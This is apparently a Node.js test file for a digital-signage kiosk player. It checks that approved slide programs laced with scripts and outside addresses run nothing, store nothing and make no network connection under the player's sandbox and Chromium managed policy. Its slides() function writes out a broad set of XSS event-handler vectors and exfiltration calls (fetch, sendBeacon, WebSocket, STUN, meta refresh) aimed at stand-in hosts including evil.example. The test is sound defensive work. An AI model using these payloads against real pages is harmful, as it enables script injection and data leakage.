// An approved program whose slides contain scripts and foreign addresses: in the real player and Chromium no script runs, nothing is
// stored and no connection is made. Without the player's protections the same slides do all of that, so the test can fail.

import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { after, before, beforeEach, test } from "node:test";
import { chromium } from "playwright-core";
import { until } from "./harness.mjs";
import { publish } from "./store.mjs";

const player = `${process.env.BANGTIN_BIN}/bangtin-player`;
// A different loopback address represents another machine; a second server runs on the player's own address.
const OTHER = "127.0.0.2";
const OWN = "127.0.0.1";
let folder;
let port;
let servers;
// Connections and the bytes sent over them, by address.
let reached;
before(async () => {
  folder = mkdtempSync(join(tmpdir(), "bangtin-egress-"));
  servers = [OTHER, OWN].map((address) => {
    const server = createServer((_, answer) => answer.end("globalThis.ran = true"));
    server.on("upgrade", (_, socket) => socket.destroy());
    server.on("connection", (socket) => {
      reached[address].connections += 1;
      socket.on("data", (bytes) => { reached[address].bytes += bytes.length; });
    });
    return { address, server };
  });
  // On one port, which something else may have on the second address.
  const listens = ({ address, server }, port) => once(server.listen(port, address), "listening").then(() => true, () => false);
  do {
    if (servers[0].server.listening) await new Promise((go) => servers[0].server.close(go));
    await listens(servers[0], 0);
    port = servers[0].server.address().port;
  } while (!(await listens(servers[1], port)));
});
beforeEach(() => { reached = { [OTHER]: { connections: 0, bytes: 0 }, [OWN]: { connections: 0, bytes: 0 } }; });
after(async () => {
  for (const { server } of servers) {
    server.closeAllConnections();
    await new Promise((go) => server.close(go));
  }
  rmSync(folder, { recursive: true, force: true });
});

const document = (head, body) => `<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>slide</title>${head}</head><body>${body}</body></html>`;

// Every way out of a page without user input: to another machine by number and by name, to another server on this one.
function slides() {
  const ways = [`http://${OTHER}:${port}`, `http://evil.example:${port}`, `http://${OWN}:${port}`];
  const of = (way) => ways.map(way).join("\n");
  const script = of((to) => `
    try { parent.document.title = document.title = "ran"; } catch {}
    try { parent.ran = top.ran = globalThis.ran = true; } catch {}
    document.documentElement.dataset.ran = "1";
    try { localStorage.setItem("ran", 1); document.cookie = "ran=1"; indexedDB.open("ran"); caches.open("ran"); } catch {}
    try { fetch("${to}/fetch", { mode: "no-cors" }).catch(() => {}); navigator.sendBeacon("${to}/beacon"); new WebSocket("${to.replace("http", "ws")}/ws"); } catch {}
    try { new EventSource("${to}/events"); new Image().src = "${to}/image"; window.open("${to}/open"); alert(1); } catch {}
    try { navigator.geolocation.getCurrentPosition(() => {}); Notification.requestPermission(); navigator.mediaDevices.getUserMedia({ audio: true }).catch(() => {}); } catch {}
    try { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:${OTHER}:${port}" }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } catch {}`);
  const inline = script.replaceAll(/\s+/g, " ").replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  const scripts = document(
    `<script>${script}</script><script type="module">${script}</script>` + of((to) => `<script src="${to}/script.js"></script><script src="${to}/m.js" type="module"></script>`),
    `<svg onload="${inline}"><script>${script}</script><animate attributeName="x" dur="1s" onbegin="${inline}"/></svg>
     <img src="../assets/none.png" onerror="${inline}"><body onload="${inline}" onpageshow="${inline}"><video autoplay oncanplay="${inline}" onerror="${inline}"><source src="x" onerror="${inline}"></video>
     <details open ontoggle="${inline}">x</details><input autofocus onfocus="${inline}"><style onload="${inline}"></style>
     <iframe srcdoc="<script>${inline}</script>"></iframe><iframe src="javascript:${inline}"></iframe><object data="data:text/html,<script>${inline}</script>"></object>
     <math><mtext><a href="javascript:${inline}">x</a></mtext></math>`);
  const loads = document(
    of((to) => `<link rel="stylesheet" href="${to}/s.css"><link rel="icon" href="${to}/i.png"><link rel="preload" as="image" href="${to}/p.png"><link rel="modulepreload" href="${to}/m.js">
      <link rel="prefetch" href="${to}/f"><link rel="prerender" href="${to}/r"><link rel="manifest" href="${to}/m.json">
      <style>@import url(${to}/i.css); @font-face { font-family: x; src: url(${to}/x.woff2) } body { font-family: x; background: url(${to}/b.png); cursor: url(${to}/c.cur), auto }</style>`),
    of((to) => `<img src="${to}/i.png" srcset="${to}/j.png 2x"><picture><source srcset="${to}/k.png"><img src="${to}/l.png"></picture><video autoplay muted src="${to}/v.webm" poster="${to}/p.png"></video>
      <audio autoplay src="${to}/a.mp3"></audio><video><track default src="${to}/t.vtt"></video><iframe src="${to}/frame"></iframe><object data="${to}/o"></object><embed src="${to}/e">
      <svg width="9" height="9"><image href="${to}/s.png" width="9" height="9"/><use href="${to}/u.svg#x"/></svg><table background="${to}/t.png"><tr><td>x</td></tr></table>
      <form action="${to}/form" method="post" target="_blank"><input name="x" autofocus></form><a href="${to}/a" ping="${to}/ping">x</a>
      <p style="background-image: url(${to}/style.png)">x</p>`));
  const hints = document(of((to) => `<link rel="preconnect" href="${to}"><link rel="preconnect" href="${to}" crossorigin><link rel="dns-prefetch" href="${to}">`), "<p>x</p>");
  const leaves = document(`<meta http-equiv="refresh" content="0;url=${ways[0]}/refresh"><base href="${ways[0]}/">`, `<p>x</p><img src="relative.png"><iframe src="frame"></iframe>`);
  return { "tap-lenh": scripts, tai: loads, goi: hints, di: leaves };
}

// Chromium with the kiosk's switches, except those that need a screen.
function kiosk() {
  const line = readFileSync(new URL("../../player/system/kiosk", import.meta.url), "utf8");
  const flags = line.split("\n").map((each) => each.trim().replace(/ \\$/, "")).filter((each) => /^--(?!kiosk|ozone|user-data)/.test(each)).map((each) => each.replaceAll("'", ""));
  return chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", ...flags] });
}

async function watched(browser) {
  const context = await browser.newContext({ viewport: { width: 640, height: 360 } });
  const tab = await context.newPage();
  const seen = { sent: [], dialogs: 0, downloads: 0, pages: 0 };
  const urls = new Map();
  const session = await context.newCDPSession(tab);
  await session.send("Network.enable");
  session.on("Network.requestWillBeSent", ({ requestId, request }) => urls.set(requestId, request.url));
  // Only requests really given to the network have extra information.
  session.on("Network.requestWillBeSentExtraInfo", ({ requestId }) => seen.sent.push(requestId));
  session.on("Network.webSocketCreated", ({ url }) => seen.sent.push(url));
  tab.on("dialog", (dialog) => { seen.dialogs += 1; dialog.dismiss(); });
  tab.on("download", () => { seen.downloads += 1; });
  context.on("page", () => { seen.pages += 1; });
  return { context, tab, seen, sent: () => seen.sent.map((id) => urls.get(id) ?? id) };
}

test("without the player's guards the same slides run and call out", async () => {
  const pages = slides();
  const bare = createServer((request, answer) => answer.writeHead(200, { "content-type": "text/html" }).end(pages[request.url.slice(1)] ?? ""));
  await new Promise((go) => bare.listen(0, "127.0.0.1", go));
  const browser = await chromium.launch({ executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--disable-popup-blocking"] });
  try {
    // Except resource hints: headless Chromium follows none.
    for (const name of Object.keys(pages).filter((each) => each !== "goi")) {
      for (const each of Object.values(reached)) each.connections = 0;
      const { context, tab } = await watched(browser);
      await tab.goto(`http://127.0.0.1:${bare.address().port}/${name}`, { waitUntil: "commit" }).catch(() => {});
      await until(`connections by ${name}`, () => reached[OTHER].connections > 0);
      if (name === "tap-lenh") assert.equal(await tab.evaluate(() => globalThis.ran), true);
      await context.close();
    }
  } finally {
    await browser.close();
    bare.closeAllConnections();
    await new Promise((go) => bare.close(go));
  }
});

test("a81 an approved program that holds scripts runs none of them, keeps nothing and sends no packet", async () => {
  const { config, program } = publish(folder, slides());
  const daemon = spawn(player, ["run", "--config", config], { stdio: ["ignore", "pipe", "inherit"] });
  const browser = await kiosk();
  try {
    const [line] = await new Promise((done) => createInterface({ input: daemon.stdout }).once("line", (text) => done([text])));
    const address = line.trim().replace(/\/$/, "");
    const health = async () => (await (await fetch(`${address}/health.json`)).json());
    await until("the program", async () => (await health()).programs.includes(program), 20000);
    const { context, tab, seen, sent } = await watched(browser);
    const frames = [];
    tab.on("framenavigated", (frame) => frames.push(frame.url()));
    const loaded = (name) => frames.filter((url) => url.includes(`/slides/${name}@`)).length;
    await tab.goto(`${address}/screens/a/`);
    // Two turns of the loop. A slide with missing pictures is loaded in the background and skipped; that is when it could do most harm.
    await until("every slide twice", () => Object.keys(slides()).every((name) => loaded(name) > 1), 60000);
    assert.deepEqual(reached[OTHER], { connections: 0, bytes: 0 });
    // No page policy covers preconnect hints. The kiosk's switch keeps them on this machine; its managed policy forbids them (below).
    assert.equal(reached[OWN].bytes, 0);
    const strange = sent().filter((url) => !url.startsWith(`${address}/`));
    assert.deepEqual(strange, []);
    assert.ok(sent().length > 8, "what the player's own page asks is seen");
    // A refused frame inside a slide shows Chromium's own empty error page.
    const own = (url) => url.startsWith(`${address}/`) || ["about:blank", "about:srcdoc", "chrome-error://chromewebdata/"].includes(url);
    assert.ok(frames.every(own), frames.join("\n"));
    const state = await tab.evaluate(async () => ({
      ran: globalThis.ran, title: document.title, storage: localStorage.length + sessionStorage.length, cookie: document.cookie,
      databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length,
      frames: [...document.querySelectorAll("iframe")].map((frame) => frame.contentDocument?.documentElement.dataset.ran ?? null),
      sandbox: [...document.querySelectorAll("iframe")].map((frame) => frame.getAttribute("sandbox")),
    }));
    assert.equal(state.ran, undefined);
    assert.notEqual(state.title, "ran");
    assert.deepEqual([state.storage, state.cookie, state.databases, state.caches], [0, "", 0, 0]);
    assert.deepEqual(state.frames, [null, null]);
    assert.deepEqual(state.sandbox, ["allow-same-origin", "allow-same-origin"]);
    assert.deepEqual(await context.cookies(), []);
    assert.deepEqual([seen.dialogs, seen.downloads, seen.pages], [0, 0, 0]);
  } finally {
    await browser.close();
    daemon.kill();
  }
});

// Managed policy has one path on a machine; a mount namespace gives one browser a different file there.
const unshare = process.getuid() === 0 ? ["--mount"] : ["--map-root-user", "--mount"];
const alone = spawnSync("unshare", [...unshare, "true"]).status === 0;

test("a82 under the managed policy the show plays, hints connect nowhere and the browser is led nowhere", { skip: !alone && "no mount namespaces here" }, async () => {
  const page = (hint) => document(hint, "<p>Xin chào</p>");
  const hint = `<link rel="preconnect" href="http://${OWN}:${port}">`;
  const own = join(folder, "policy");
  const { config } = publish(own, { mot: page(hint), hai: page(`${hint}<base>`) }, { itemMs: 1500 });
  const daemon = spawn(player, ["run", "--config", config], { stdio: ["ignore", "pipe", "inherit"] });
  let browser;
  const chromium = (name, address) => {
    const program = process.env.CHROMIUM ?? "/usr/bin/chromium";
    const args = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", `--user-data-dir=${join(own, name)}`, address];
    const line = `mount --bind '${own}/etc' /etc/chromium && exec "$0" "$@"`;
    browser = spawn("unshare", [...unshare, "--kill-child", "sh", "-c", line, program, ...args], { stdio: "ignore", detached: true });
  };
  const end = async () => {
    const ended = new Promise((go) => browser.once("exit", go));
    process.kill(-browser.pid, "SIGKILL");
    await ended;
  };
  try {
    const [line] = await new Promise((done) => createInterface({ input: daemon.stdout }).once("line", (text) => done([text])));
    const address = line.trim().replace(/\/$/, "");
    // As installed, except for this test's port.
    const policy = readFileSync(new URL("../../player/system/chromium-policy.json", import.meta.url), "utf8").replace("http://127.0.0.1:8377", address);
    mkdirSync(join(own, "etc/policies/managed"), { recursive: true });
    writeFileSync(join(own, "etc/policies/managed/bangtin.json"), policy);
    const returns = join(own, "data/returns/ta-lung/ta-lung-1");
    const plays = () => readdirSync(returns).flatMap((name) => readFileSync(join(returns, name), "utf8").split("\n")).filter((each) => each.includes('"outcome":"shown"'));
    chromium("show", `${address}/screens/a/`);
    await until("three plays", () => plays().length > 2, 40000);
    await end();
    assert.deepEqual(reached[OWN], { connections: 0, bytes: 0 });
    // First the player's page, then another address: the browser sends no request there and still reaches the player.
    const before = plays().length;
    chromium("away", `http://${OWN}:${port}/away`);
    browser.unref();
    const away = browser;
    chromium("again", `${address}/screens/a/`);
    await until("a play beside it", () => plays().length > before, 40000);
    process.kill(-away.pid, "SIGKILL");
    await end();
    assert.deepEqual(reached[OWN], { connections: 0, bytes: 0 });
  } finally {
    if (browser && browser.exitCode === null && browser.signalCode === null) process.kill(-browser.pid, "SIGKILL");
    daemon.kill();
  }
});
